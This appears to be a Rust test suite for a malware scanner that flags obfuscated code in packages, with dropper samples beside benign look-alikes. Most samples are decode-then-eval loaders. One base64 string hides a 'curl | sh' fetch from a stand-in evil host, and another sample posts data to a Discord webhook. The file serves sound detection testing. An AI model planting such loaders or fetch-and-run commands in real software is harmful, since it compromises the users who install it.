//! Positives modelled on real droppers (GuardDog's rule samples, npm/PyPI incidents) side
//! by side with the near misses flagship libraries contain.

use crate::analysis::finding::ScamFinding;
use crate::result::Severity;

fn scan(path: &str, text: &str) -> Vec<ScamFinding> {
    crate::analysis::scanner::scan_text(path, text)
        .map(|s| s.scam)
        .unwrap_or_default()
        .into_iter()
        .filter(|f| f.check == "scam.obfuscation")
        .collect()
}

fn sev(path: &str, text: &str) -> Option<Severity> {
    scan(path, text).first().map(|f| f.severity)
}

#[track_caller]
fn critical(path: &str, text: &str) {
    assert_eq!(sev(path, text), Some(Severity::Critical), "{path}: {text}");
}

#[track_caller]
fn high(path: &str, text: &str) {
    assert_eq!(sev(path, text), Some(Severity::High), "{path}: {text}");
}

#[track_caller]
fn clean(path: &str, text: &str) {
    assert_eq!(scan(path, text), vec![], "{path}: {text}");
}

#[test]
fn decoded_in_the_call() {
    critical(
        "lib/x.rb",
        "require 'base64'\neval(Base64.decode64(\"cHV0cyAnaGVsbG8n\"))\n",
    );
    critical("lib/x.rb", "instance_eval(Base64.strict_decode64(payload))\n");
    critical("lib/x.rb", "Kernel.eval(Base64.urlsafe_decode64(s))\n");
    critical("x.php", "<?php @eval(gzinflate(base64_decode($p))); ?>");
    critical("x.php", "<?php eval(str_rot13($s)); ?>");
    critical(
        "setup.py",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(\"eJzL\")))\n",
    );
    critical("setup.py", "exec(bytes.fromhex(h).decode())\n");
    critical("setup.py", "exec(binascii.unhexlify(h))\n");
    critical("setup.py", "exec(codecs.decode(s, 'rot13'))\n");
    critical(
        "setup.py",
        "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b\"x\\x9c\")))\n",
    );
    critical("setup.py", "exec(Fernet(b\"E15V=\").decrypt(b\"gAAA=\"))\n");
    critical("pkg/__init__.py", "__import__(\"builtins\").exec(\n    __import__(\"builtins\").compile(\n        __import__(\"base64\").b64decode(\"Zm9v\"),\n        \"<string>\",\n        \"exec\",\n    )\n)\n");
    critical(
        "pkg/__init__.py",
        "exec(\"\".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 41]))\n",
    );
    critical(
        "pkg/__init__.py",
        "exec(\"\".join(map(chr, [112, 114, 105, 110, 116, 40, 41])))\n",
    );
    critical("pkg/__init__.py", "_ = eval(\"\\145\\166\\141\\154\")\n");
    critical(
        "pkg/__init__.py",
        "exec(\"\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29\")\n",
    );
    critical(
        "index.js",
        "vm.runInNewContext(Buffer.from(p, 'base64').toString(), ctx);\n",
    );
    critical("index.js", "setTimeout(atob(s), 10);\n");
    critical(
        "index.js",
        "const cp = require('child_process');\ncp.exec(Buffer.from(c, 'base64').toString());\n",
    );
    critical(
        "index.js",
        "require('child_process').execSync(Buffer.from(c, 'hex').toString());\n",
    );
    critical("index.js", "const f = new Function(atob(p));\nf();\n");
    critical(
        "setup.py",
        "import subprocess, base64\nsubprocess.Popen([\"python\", \"-c\", base64.b64decode(\"YmFy\")])\n",
    );
    critical("setup.py", "os.system(base64.b64decode(\"bHM=\"))\n");
}

#[test]
fn decoded_in_the_call_near_misses() {
    clean("setup.py", "exec(open(\"pkg/version.py\").read())\n");
    clean("setup.py", "with open(p) as f:\n    exec(f.read(), ns)\n");
    clean("x.rb", "eval(\"puts 'hello'\")\ninstance_eval(\"@foo = 1\")\n");
    clean("index.js", "const m = re.exec(s);\nconst r = regex.exec(atob(s));\n");
    clean("index.js", "setTimeout(() => { const x = atob(s); show(x); }, 100);\n");
    clean("index.js", "setTimeout(function () { render(atob(s)); }, 100);\n");
    clean(
        "index.js",
        "spawn('node', ['build.js', Buffer.from(a, 'base64').toString()]);\n",
    );
    clean(
        "pkg/m.py",
        "model.eval()\nself.eval(x)\npattern = re.compile(base64.b64decode(p))\n",
    );
    // A string literal that mentions a decoder is visible code, not a decoded payload
    // (webpack's eval-source-map dev chunks).
    clean("dist/main.js", "eval(\"var s = 'long enough module source'; var x = atob(s); console.log(x);\\n//# sourceURL=webpack://app/./src/a.js\");\n");
    clean("lib/sympy_like.py", "f = Function('f')\nx = b64decode(s)\n");
}

#[test]
fn the_window_ends_at_the_call() {
    let benign = "function run(x) {\n  return eval(x);\n}\nfunction img(d) { return atob(d); }\n";
    clean("lib/expr.js", benign);
    let benign_py = "def calc(expr):\n    return eval(expr)\n\ndef image(d):\n    return base64.b64decode(d)\n";
    clean("lib/calc.py", benign_py);
}

#[test]
fn decoded_then_run() {
    critical(
        "setup.py",
        "import base64\nmyBase64Code = \"YmFy\"\nmyDecodedCode = base64.b64decode(myBase64Code)\nexec(myDecodedCode)\n",
    );
    critical("pkg/loader.py", "import base64\n\ndef load(x):\n    d = base64.b64decode(x)\n    s = d.decode('utf-8')\n    if s:\n        exec(s)\n");
    critical(
        "index.js",
        "function go(p) {\n  const code = Buffer.from(p, 'base64').toString();\n  eval(code);\n}\n",
    );
    critical("pkg/run.py", "from cryptography.fernet import Fernet\n\ndef run(key, blob):\n    payload = Fernet(key).decrypt(blob)\n    exec(payload)\n");
    critical("index.js", "import fetch from 'node-fetch'\nfunction f() {\n  const admin = '0a636f6e7374';\n  const adminResult = Buffer.from(admin, 'hex').toString('utf8');\n  const func = new Function(adminResult);\n  func(adminResult);\n}\n");
    critical("lib/x.rb", "code = Base64.decode64(\"cHV0cyAnaGVsbG8n\")\neval(code)\n");
    critical(
        "x.php",
        "<?php\nfunction boot() {\n  $c = base64_decode($GLOBALS['p']);\n  eval($c);\n}\n",
    );
    // A local decoder helper, then eval of its result.
    critical(
        "index.js",
        "function dec(s) { return atob(s); }\nfunction main() { eval(dec(P)); }\n",
    );
    critical(
        "index.js",
        "const k = s => s.split('').map(c => String.fromCharCode(c.charCodeAt() - 1)).join('');\neval(k(x));\n",
    );
    // exec fetched from builtins under an encoded name.
    critical("pkg/__init__.py", "def f():\n    cc = getattr(builtins, b\"\\x85\\xa5\\x81\\x93\".decode(\"cp1026\"))\n    cc(b\"\\x85\\xa7\\x85\\x83M\\xfc\\x89\\x94\".decode(\"cp1026\"))\n");
}

#[test]
fn decoded_then_run_near_misses() {
    // Decoded in one function, a different variable run in another.
    clean(
        "pkg/a.py",
        "def a(x):\n    d = base64.b64decode(x)\n    return d\n\ndef b(d):\n    exec(d)\n",
    );
    clean(
        "lib/a.js",
        "function a(p) { const code = atob(p); return code; }\nfunction b(code) { eval(code); }\n",
    );
    // Decoded, then something else run.
    clean(
        "pkg/b.py",
        "def f(x, path):\n    d = base64.b64decode(x)\n    exec(open(path).read())\n",
    );
    // A router decoding the URL, then evaluating a config expression.
    clean(
        "lib/r.js",
        "function route(h) {\n  const p = decodeURIComponent(h);\n  eval(cfg);\n}\n",
    );
    // A long, unrelated function that decodes somewhere is not a decoder helper.
    let big = format!(
        "function parse(s) {{\n  const img = atob(s.icon);\n{}  return s;\n}}\nfunction main() {{ eval(parse(x)); }}\n",
        "  s.items.forEach(function (i) { i.total = i.price * i.count; });\n".repeat(12)
    );
    clean("lib/p.js", &big);
    // Bundles keep today's protection: no cross-statement analysis.
    let bundle = format!("!function(){{var c=atob(p);{}eval(c)}}();\n", "var q=1;".repeat(8000));
    clean("dist/app.bundle.js", &bundle);
}

/// 70 KB of `a=(a=(…` lines (every right-hand side unbalanced, so each one runs to the
/// statement cap), then `tail`.
fn assignment_bomb(tail: &str) -> String {
    let mut s = String::new();
    while s.len() < 70_000 {
        s.push_str(&"a=(".repeat(20));
        s.push('\n');
    }
    s.push_str(tail);
    s
}

#[test]
fn crafted_assignment_flood_stays_bounded() {
    // Once cost minutes (every sink re-read every assignment of 64 KB before it): the
    // taint of a function is computed once and capped. The scan must simply finish.
    let evals = "eval(x);\n".repeat(64);
    let members = "o[k](1);\n".repeat(64);
    let flood = assignment_bomb(&format!("var x = atob(p);\n{evals}{members}"));
    let _ = scan("lib/flood.js", &flood);
    // Decode-then-run in its own function after the flood: still critical, the flood's
    // cap belongs to the top level.
    let wrapped = assignment_bomb(&format!("function run(p) {{\n  var x = atob(p);\n{evals}}}\n"));
    critical("lib/flood.js", &wrapped);
    // Near miss: the same flood and function running something it did not decode.
    let other = assignment_bomb(&format!(
        "function run(p) {{\n  var x = atob(p);\n{}}}\n",
        "eval(cfg);\n".repeat(64)
    ));
    assert_ne!(sev("lib/flood.js", &other), Some(Severity::Critical));
}

#[test]
fn hidden_names_and_chains() {
    high("pkg/x.py", "import builtins\ncc = getattr(builtins, 'exec')\n");
    high("pkg/x.py", "f = __builtins__.__dict__['eval']\n");
    high(
        "pkg/x.py",
        "cc = getattr(builtins, b\"\\x85\\xa5\\x81\\x93\".decode(\"cp1026\"))\n",
    );
    high(
        "pkg/x.py",
        "x = b\"\\x85\\xa7\\x85\\x83M\\xfc\\x89\\x94\".decode(\"cp1026\")\n",
    );
    high(
        "index.js",
        "const B = global[Buffer.from([66, 117, 102, 102, 101, 114])];\n",
    );
    high(
        "index.js",
        "process[Buffer.from('c3Bhd24=', 'base64').toString('utf-8')]('node', ['x.js']);\n",
    );
    high(
        "index.js",
        "host = os[String.fromCharCode(0x68, 0x6f, 0x73, 0x74, 0x6e, 0x61, 0x6d, 0x65)]();\n",
    );
    high(
        "index.js",
        "host = os[\"\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65\"]();\nrun(\"\\x65\\x76\\x61\\x6c\");\n",
    );
    high(
        "index.js",
        "const n = String.fromCharCode(...[101, 118, 97, 108, 40, 120, 41, 59]);\n",
    );
    high(
        "index.js",
        "for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16));\n",
    );
    high(
        "index.js",
        "for (var j = 0; j < d.length; j++) o += String.fromCharCode(d.charCodeAt(j) ^ k.charCodeAt(j % k.length));\n",
    );
    high("pkg/x.py", "name = chr(101) + chr(118) + chr(97) + chr(108)\n");
    high(
        "pkg/x.py",
        "s = ''.join(chr(c - 3) for c in [104, 117, 100, 111, 107, 98, 104, 105, 100])\n",
    );
    high("lib/x.php", "<?php $f = \"\\x65\\x76\\x61\\x6c\"; ?>");
    high("index.js", "function rot13(s) { return s.replace(/[a-z]/g, c => String.fromCharCode(13 + c.charCodeAt(0))); }\nself[rot13(x)](url);\n");
    let obf = "const _0x112fa8 = _0x180f;\n(function(_0x13c8b9, _0x35f660) {\n    const _0x15b386 = _0x180f;\n    var _0x66ea25 = _0x13c8b9();\n    while (!![]) {\n        try {\n            const _0x2cc99e = parseInt(_0x15b386(0x46c));\n            if (_0x2cc99e === _0x35f660) break;\n            else _0x66ea25['push'](_0x66ea25['shift']());\n        } catch (_0x205af0) {\n            _0x66ea25['push'](_0x66ea25['shift']());\n        }\n    }\n}(_0x5808, 0x7a1b2));\n";
    high("index.js", obf);
    let arr = "function _0x5808() { const _0x1a2b3c = ['log', 'Hello', 'split']; _0x5808 = function () { return _0x1a2b3c; }; return _0x5808(); }\nconsole[_0x18447f(0x1a4)]('x');\n";
    high("index.js", arr);
}

#[test]
fn hidden_names_near_misses() {
    clean(
        "pkg/pickle_like.py",
        "def find_class(module, name):\n    return getattr(builtins, name)\n",
    );
    clean(
        "pkg/t.py",
        "v = getattr(os, 'environ')\nimport builtins\nbuiltins.print = log\n",
    );
    clean(
        "index.js",
        "const cache = {};\nconst v = cache[key];\nconst col = String.fromCharCode(65 + i);\n",
    );
    clean(
        "pkg/x.py",
        "letters = [chr(ord('a') + i) for i in range(26)]\nsep = chr(10)\n",
    );
    clean("pkg/enc.py", "s = b'\\x72\\x65\\x61\\x64\\x79'.decode('cp1252')\n");
    clean(
        "pkg/bytes.py",
        "MAGIC = b\"\\x89PNG\\r\\n\\x1a\\n\"\nHDR = b\"\\x65\\x76\\x00\\x01\"\n",
    );
    clean("lib/hex.js", "const x = 0x1bd + _0xfoo;\nconst _0x = 1;\n");
    // Regex unicode classes (lodash) are not hidden names.
    clean(
        "lib/lodash.js",
        "var rsAstralRange = '\\\\ud800-\\\\udfff', rsComboMarksRange = '\\\\u0300-\\\\u036f';\n",
    );
}

fn base64_noise(n: usize) -> String {
    use base64::Engine as _;
    let bytes: Vec<u8> = (0..n as u32).map(|i| (i * 31 % 251) as u8).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn blobs_are_data_unless_base64() {
    let hidden = format!("const payload = \"{}\";", base64_noise(1500));
    assert_eq!(sev("lib/d.js", &hidden), Some(Severity::Medium));
    // One finding per file however many blobs.
    let many = format!("{hidden}\n{hidden}\n{hidden}\n");
    assert_eq!(scan("lib/d.js", &many).len(), 1);
    // EVM bytecode in library code, examples and _tests.
    let evm = format!(
        "BYTECODE = \"0x608060405234801561001057600080fd5b50{}\"\n",
        "6101008061001f6000396000f3fe6080604052".repeat(60)
    );
    clean("web3/_utils/module_testing/emitter.py", &evm);
    clean("examples/deploy.py", &evm);
    clean("src/contracts/bytecode.ts", &evm);
    // A BIP-39-like packed word list.
    let words = format!(
        "export const ja = \"{}\";\n",
        "0erleonalorenseinceregesticitStanvetearctssi:Kosm9ouppetaVtrutNomsTarsrGe".repeat(30)
    );
    clean("src.ts/wordlists/lang-fr.ts", &words);
    // Not in tests at all, even as low.
    clean(
        "tests/fixtures/payload.py",
        &format!("P = \"{}\"\n", base64_noise(1500)),
    );
    clean("pkg/_tests/data.py", &format!("P = \"{}\"\n", base64_noise(1500)));
}

#[test]
fn escalation_with_exfiltration() {
    let obf = "function _0x5808() { const _0x1a2b3c = ['log', 'Hello', 'split']; _0x5808 = function () { return _0x1a2b3c; }; return _0x5808(); }\nfetch('https://discord.com/api/webhooks/1/a', {method: 'POST', body: _0x1a2b3c});\n";
    critical("index.js", obf);
}

#[test]
fn module_compiled_from_decoded_text() {
    let flatmap = "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}var n=r(e(\"2e2f746573742f64617461\")),o=t[e(n[3])][e(n[4])];var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();\n";
    let f = scan("index.min.js", flatmap);
    assert!(
        f.iter()
            .any(|f| f.check == "scam.obfuscation" && f.severity == Severity::Critical),
        "{f:?}"
    );
    // require-from-string: compiles its argument, no decoder.
    let rfs = "module.exports = function requireFromString(code, filename) {\n  var m = new Module(filename, module.parent);\n  m.paths = Module._nodeModulePaths(path.dirname(filename));\n  m._compile(code, filename);\n  return m.exports;\n};\n";
    assert!(scan("index.js", rfs).is_empty());
}

#[test]
fn obfuscator_string_array_hiding_a_loader() {
    let init = "var _0x4f2a=['Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g='];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f2a,0x1a3));var _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f2a[_0x2d8f05];return Buffer['from'](_0x4d74cb,'base64')['toString']('utf8');};var _0x1c9e=require(_0x4d74('0x0'));_0x1c9e[_0x4d74('0x1')](_0x4d74('0x2'));\n";
    let f = scan("lib/init.js", init);
    assert!(
        f.iter()
            .any(|f| f.check == "scam.obfuscation" && f.severity == Severity::Critical),
        "{f:?}"
    );
    // The same packing over UI strings: obfuscated, not a loader.
    let ui = init
        .replace("Y2hpbGRfcHJvY2Vzcw==", "SGVsbG8=")
        .replace("Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g=", "V29ybGQ=");
    assert!(scan("lib/ui.js", &ui).iter().all(|f| f.severity < Severity::Critical));
}

#[test]
fn minified_char_code_loops_are_not_hiding() {
    // GraphiQL's minified UTF-8 decoder: a chain of character codes, in a `.min.js`.
    let chain = "var s=String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100);";
    assert!(scan("graphiql/graphiql.min.js", chain).is_empty());
    // The same chain in a source file is still a hiding technique.
    assert!(scan("src/index.js", chain).iter().any(|f| f.severity == Severity::High));
    // A decoded payload that runs is critical in a minified file too.
    let run = "eval(String.fromCharCode(97,108,101,114,116,40,49,41));";
    assert!(scan("dist/app.min.js", run)
        .iter()
        .any(|f| f.severity == Severity::Critical));
}
